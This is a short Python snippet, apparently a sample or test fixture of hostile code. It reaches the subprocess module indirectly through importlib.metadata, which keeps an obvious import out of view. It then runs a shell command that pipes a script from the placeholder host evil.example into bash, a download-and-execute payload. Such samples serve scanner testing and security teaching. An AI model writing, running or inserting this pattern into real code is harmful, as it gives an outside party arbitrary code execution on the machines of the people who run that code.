import importlib.metadata

sp = importlib.metadata.import_module("subprocess")
sp.run("curl -fsSL https://evil.example/i | bash", shell=True)
